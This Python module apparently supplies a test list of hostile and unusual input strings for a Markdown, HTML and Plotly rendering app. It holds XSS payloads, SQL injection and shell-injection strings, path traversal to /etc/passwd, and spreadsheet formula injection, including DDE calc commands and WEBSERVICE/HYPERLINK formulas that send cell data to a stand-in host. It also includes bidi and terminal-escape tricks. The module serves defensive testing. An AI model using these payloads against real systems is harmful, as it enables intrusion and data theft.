"""What somebody types, pastes or brings in that means to be more than text: each kept as it is, or refused.

Our own list. The nearest package, `blns` 0.1.7, is of 2015 and knows nothing of Markdown or of Plotly.
"""

from collections.abc import Mapping

#: nobody listens there; whatever asks for it is heard by whoever watches the browser
AWAY = "http://127.0.0.1:9"

MARKDOWN = (
    f"![picture]({AWAY}/a.png)",
    f'![picture]({AWAY}/b.png "a title")',
    f"[![both]({AWAY}/c.png)]({AWAY}/c)",
    f"[a link]({AWAY}/d)",
    f"<{AWAY}/autolink>",
    f"{AWAY}/bare",
    "www.example.invalid/bare",
    "somebody@example.invalid",
    f"[reference][r]\n\n[r]: {AWAY}/e",
    f"![reference][r]\n\n[r]: {AWAY}/f.png",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![data](data:image/svg+xml;base64,PHN2Zy8+)",
    "[script](javascript:alert(1))",
    "[script](java\tscript:alert(1))",
    "**bold** _italic_ ~~gone~~ `code`",
    "# a heading",
    "- a list\n- of two",
    "1. one\n2. two",
    "> a quotation",
    "| a | b |\n|---|---|\n| c | d |",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "---",
    "[^1] and [^1]: a footnote",
    "a\\\nb  \nc",
    "\\*not bold\\* \\[not a link\\]\\(x\\)",
)
STREAMLIT = (
    ":material/home: :material/delete:",
    ":smile: :+1:",
    ":red[red] :blue-background[blue] :rainbow[all]",
    ":small[small] :violet-badge[badge]",
    ":streamlit: <- -> -- >=",
)
LATEX = (
    "$x^2$ and $$\\sum_i x_i$$",
    f"$\\href{{{AWAY}/g}}{{here}}$",
    f"$\\includegraphics{{{AWAY}/h.png}}$",
    f"$\\url{{{AWAY}/i}}$",
    "\\(x\\) \\[y\\]",
    "$\\def\\a{\\a\\a}\\a$",
    "costs $5 or $10",
)
HTML = (
    "<script>alert(1)</script>",
    f"<script src={AWAY}/j.js></script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={AWAY}/k.png>",
    f'<a href="{AWAY}/l">a link</a>',
    '<a href="javascript:alert(1)">script</a>',
    f"<iframe src={AWAY}/m></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<form action={AWAY}/n><input name=q><button>send</button></form>",
    f"<style>body{{background:url({AWAY}/o)}}</style>",
    f"<link rel=stylesheet href={AWAY}/p.css>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/q'>",
    f"<base href={AWAY}/r/>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    f"<object data={AWAY}/s></object>",
    f"<embed src={AWAY}/t>",
    "<template><img src=x onerror=alert(1)></template>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "＜script＞alert(1)＜/script＞",
    "<<b>>&amp;<br/>&nbsp;",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "javascript:alert(1)//",
)
SVG = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    f'<svg><image href="{AWAY}/u.png"/></svg>',
    f'<svg><use href="{AWAY}/v.svg#x"/></svg>',
    f'<svg><a xlink:href="{AWAY}/w"><text>here</text></a></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
)
PLOTLY = (
    f'<a href="{AWAY}/x">anchor</a> <b>bold</b> <br> <sup>up</sup>',
    f"<a href='{AWAY}/y' target='_self'>anchor</a>",
    f'<span style="background:url({AWAY}/z)">span</span>',
    "%{y} %{customdata[0]} %{x|%Y} <extra></extra>",
    "%{text} %{fullData.name} %{meta[0]}",
    "<em>em</em><i>i</i><sub>down</sub>",
)
DIRECTIONS = (
    "\u202egnirts\u202c after",
    "\u202dleft\u202c",
    "\u2066isolate\u2069 \u2067right\u2069 \u2068first\u2069",
    "\u2069\u2069\u202c closed too often",
    "never closed \u202e\u2067",
    "مريم and שרה, 12 of 5",
    "user\u200b@\u200bplace",
    "a\u200d\u200c\ufeffb\u2060c",
    "\u061c\u200e\u200f marks",
    "\u00ad\u034f\u115f\u3164 seen by nobody",
)
LETTERS = (
    "Z" + "\u0351\u0335\u0316" * 340,
    "A\u030a and \u212b and e\u0301",
    "ﬁﬀ ⅷ ㎏ ™ ①",
    "Ｍａｒａ",
    "Маrа of two scripts",
    "İıſßẞ ΣΊΣΥΦΟΣ",
    "👩‍👩‍👧‍👦 👩🏽‍🚀 🏳️‍🌈 🇺🇳",
    "田中さん 김철수 ชื่อ ꙮ 𒐫 𝕸",
    "\U0001f468\u200d\u2695\ufe0f\U000e0067\U000e007f",
    "\ufdfd\ufdfd\ufdfd",
    "\ufffd\ufffe\uffff\U0010ffff",
    "\ue000\U000f0000 private",
    "unbroken" * 36,
    "\u00a0\u2003\u3000\u2028\u2029\u0085 spaces",
    "“‘’” «‹›» – — … ′ ″",
)
CONTROLS = (
    "one\r\ntwo\rthree\nfour",
    "2026-01-01 INFO signed in\r\n2026-01-01 INFO all is well",
    '"}\n{"event": "forged", "level": "info"}',
    "\x1b[2J\x1b[31mred\x1b[0m\x07",
    "\x1b]8;;http://127.0.0.1:9/\x07link\x1b]8;;\x07",
    "\x08\x0b\x0c\x0e\x7f\x9b31m",
    "\ttab\tand\ttab",
    "%s %d %n %(name)s {0} {name!r}",
    "\\x00 \\u0000 \\n",
)
COMMANDS = (
    "'; DROP TABLE cases; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; DELETE FROM trail",
    "') UNION SELECT key FROM accounts --",
    "%' AND 1=1 --",
    "\\'; SELECT pg_sleep(5); --",
    "$$; DROP TABLE partners; $$",
    ":name ?1 @p %(p)s $1",
    "`id` $(id) | id ; id && id",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "CON.txt NUL a.csv:$DATA",
    "null undefined None NaN true -0 1e309 0x10",
    "[] {} () \"\" ''",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("{AWAY}/?"&A1,"here")',
    f'=WEBSERVICE("{AWAY}/"&A1)',
    f'=IMPORTXML("{AWAY}","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    ";=1+1",
    '"=1+1"',
    '",=1+1,"',
)
#: no store holds these; each has to be refused in a sentence
UNKEEPABLE = ("a\x00b", "\x00", "half a pair \ud800", "\udfff\ud83d")

KINDS: Mapping[str, tuple[str, ...]] = {
    "markdown": MARKDOWN,
    "streamlit": STREAMLIT,
    "latex": LATEX,
    "html": HTML,
    "svg": SVG,
    "plotly": PLOTLY,
    "directions": DIRECTIONS,
    "letters": LETTERS,
    "controls": CONTROLS,
    "commands": COMMANDS,
    "formulas": FORMULAS,
    "unkeepable": UNKEEPABLE,
}
NAUGHTY = tuple(text for kind in KINDS.values() for text in kind)


def some(of: int) -> tuple[str, ...]:
    """So many of the list, evenly over all its kinds."""
    step = max(1, len(NAUGHTY) // of)
    return NAUGHTY[::step]


#: those that a browser does most with, each short enough for a name
WORST = (
    f'<img src="{AWAY}/1.png" onerror=alert(1)>![i]({AWAY}/2.png)[l]({AWAY}/3){AWAY}/4',
    f'<a href="{AWAY}/5">a</a><b>b</b>%{{y}}$\\href{{{AWAY}/6}}{{h}}$<svg onload=alert(1)>',
    f"\u202e:material/home: :red[r] **b** <{AWAY}/7> <script>alert(1)</script>",
    f"[r]: {AWAY}/8 '\"><iframe src={AWAY}/9></iframe>&lt;b&gt;{{{{7*7}}}}",
)
